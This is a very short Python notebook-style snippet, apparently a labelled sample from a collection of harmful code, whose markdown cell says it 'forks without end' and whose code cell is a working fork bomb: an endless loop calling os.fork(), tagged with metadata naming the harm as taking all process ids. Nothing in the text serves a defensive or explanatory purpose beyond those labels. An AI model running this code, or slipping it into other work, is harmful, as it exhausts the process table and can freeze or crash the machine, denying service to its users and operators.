# %% [markdown] harm="takes all process ids"
# Forks without end.

# %% attack="last"
import os

while True:
    os.fork()
